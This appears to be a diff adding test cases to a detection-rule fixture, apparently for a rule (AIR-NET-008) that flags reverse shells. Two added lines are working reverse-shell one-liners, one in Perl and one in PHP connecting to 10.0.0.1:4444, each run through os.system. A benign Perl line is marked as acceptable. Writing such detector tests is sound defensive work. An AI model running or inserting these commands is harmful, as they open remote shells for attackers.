@@ -110,3 +110,10 @@ DOCS = "https://docs.python.org/3/"
 listener = socket.socket()
 # todoruleid: AIR-NET-005
 listener.listen(5)
+
+# ruleid: AIR-NET-008
+os.system("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'")
+# ruleid: AIR-NET-008
+os.system("php -r '$s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'")
+# ok: AIR-NET-008
+os.system("perl -e 'print 42'")
